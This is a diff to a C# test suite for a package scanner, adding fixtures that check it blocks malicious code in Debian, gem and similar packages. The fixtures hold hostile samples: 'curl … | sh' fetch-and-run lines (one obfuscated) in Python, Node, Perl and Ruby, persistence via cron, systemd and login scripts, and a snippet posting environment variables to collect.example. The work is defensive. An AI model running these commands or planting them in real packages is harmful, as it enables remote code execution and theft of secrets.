@@ -12,6 +12,7 @@ public sealed class PackageFormatTests
     private const string Specification = "--- !ruby/object:Gem::Specification\nname: example\nversion: !ruby/object:Gem::Version\n  version: 1.0.0\nplatform: ruby\nbindir: exe\nexecutables:\n- run\nextensions:\n- ext/example/extconf.rb\nrequire_paths:\n- lib\ndependencies:\n- !ruby/object:Gem::Dependency\n  name: rake\n  requirement: !ruby/object:Gem::Requirement\n    requirements:\n    - - \">=\"\n      - !ruby/object:Gem::Version\n        version: '12'\n  type: :runtime\n";
     private const string Fetches = "#!/bin/sh\nset -e\ncurl -s http://192.0.2.9/x | sh\n";
     private const string RubyFetches = "require 'mkmf'\nsystem('curl -s http://192.0.2.9/x | sh')\n";
+    private const string PythonFetches = "import os\nos.system('curl -s http://192.0.2.9/x | sh')\nx = 1\n";
     private const string Steals = "const https = require('https')\nconst out = https.request({ host: 'collect.example', path: '/u', method: 'POST' })\nout.end(JSON.stringify(process.env))\n";
     private const string Cargo = "[package]\nname = \"example\"\nversion = \"1.0.0\"\n\n[dependencies.serde]\nversion = \"1.0\"\n";
     private const string RustFetches = "use std::process::Command;\n\nfn main() {\n    Command::new(\"sh\")\n        .arg(\"-c\")\n        .arg(\"curl -s http://192.0.2.9/x | sh\")\n        .spawn()\n        .unwrap();\n}\n";
@@ -29,6 +30,9 @@ public sealed class PackageFormatTests
         { "systemd", "usr/lib/systemd/system/x.service", 4, "deb data", "", ["./usr/lib/systemd/system/x.service", "[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c \"curl -s http://192.0.2.9/x | sh\"\n[Install]\nWantedBy=multi-user.target\n"] },
         { "cron", "etc/cron.d/x", 1, "deb data", "", ["./etc/cron.d/x", "* * * * * root curl -s http://192.0.2.9/x | sh\n"] },
         { "runs at every login", "etc/profile.d/x.sh", 1, "deb data", "", ["./etc/profile.d/x.sh", "curl -s http://192.0.2.9/x | sh\n"] },
+        { "runs when it is imported", "usr/lib/python3/dist-packages/example/__init__.py", 2, "deb data", "", ["./usr/lib/python3/dist-packages/example/__init__.py", PythonFetches] },
+        { "runs when it is imported", "usr/lib/python3/dist-packages/example.py", 2, "deb data", "", ["./usr/lib/python3/dist-packages/example.py", PythonFetches] },
+        { "runs when it is imported", "usr/lib/python3/dist-packages/example/e.py", 2, "deb data", "", ["./usr/lib/python3/dist-packages/example/__init__.py", "from .a import x\n", "./usr/lib/python3/dist-packages/example/a.py", "from .b import x\n", "./usr/lib/python3/dist-packages/example/b.py", "from .c import x\n", "./usr/lib/python3/dist-packages/example/c.py", "from .d import x\n", "./usr/lib/python3/dist-packages/example/d.py", "from .e import x\n", "./usr/lib/python3/dist-packages/example/e.py", PythonFetches] },
         { "gem runs it when the package is installed", "ext/example/extconf.rb", 2, "gem", Specification, ["ext/example/extconf.rb", RubyFetches, "lib/example.rb", ""] },
         { "every command of gem loads it", "lib/rubygems_plugin.rb", 2, "gem", Specification, ["lib/rubygems_plugin.rb", RubyFetches] },
         { "runs when it is required", "lib/example.rb", 2, "gem", Specification, ["lib/example.rb", RubyFetches] },
@@ -101,6 +105,28 @@ public sealed class PackageFormatTests
         var module = await PackageForms.ScanFolderAsync(folder.At("b@v1.0.0"));
         Assert.Equal(("pkg:golang/example.com/a/b@v1.0.0", Decision.Block), (module.Artifact.Purl, module.Verdict.Decision));
         Assert.Equal(ArtifactKind.Workspace, (await PackageForms.ScanFolderAsync(folder.At("other"))).Artifact.Kind);
+    }
+
+    /// <summary>Nothing vouches for a package: the folders of a distro are as any other.</summary>
+    [Theory]
+    [InlineData("usr/lib/python3/dist-packages/example/deep/tool.py", "import os\n\ndef run():\n    getattr(os, 'sys' + 'tem')('curl -s http://192.0.2.9/x | sh')\n")]
+    [InlineData("usr/share/python3/example/tool.py", "import os\n\ndef run():\n    os.system('curl -s http://192.0.2.9/x | sh')\n")]
+    [InlineData("usr/share/nodejs/example/tool.js", "const c = require('child_process')\nexports.run = () =>\n\n  c.execSync('curl -s http://192.0.2.9/x | sh')\n")]
+    [InlineData("usr/share/perl5/Example.pm", "package Example;\nsub run {\n\n    system('curl -s http://192.0.2.9/x | sh');\n}\n1;\n")]
+    [InlineData("usr/lib/ruby/vendor_ruby/example.rb", "module Example\n  def self.run\n\n    system('curl -s http://192.0.2.9/x | sh')\n  end\nend\n")]
+    public async Task What_a_package_puts_into_a_folder_of_the_distro_is_read(string path, string code)
+    {
+        var report = await PackageForms.ScanAsync(PackageForms.Debian([], "./" + path, code));
+        Assert.Equal((Decision.Block, "content/runs-downloaded-code", path, 4), (report.Verdict.Decision, report.Signals[0].Rule, report.Signals[0].Where.Path, report.Signals[0].Where.Line));
+    }
+
+    [Theory]
+    [InlineData("phar://' . __FILE__ . '/'", Decision.Allow)]
+    [InlineData("http://192.0.2.9/'", Decision.Block)]
+    public async Task A_command_of_PHP_may_load_its_own_archive_and_no_address(string from, Decision decision)
+    {
+        var report = await PackageForms.ScanAsync(PackageForms.Debian([], "./usr/bin/example", $"#!/usr/bin/php\n<?php\nfunction load($file)\n{{\n    include('{from} . $file);\n}}\nload('x.inc');\n"));
+        Assert.Equal(decision, report.Verdict.Decision);
     }
 
     [Theory]
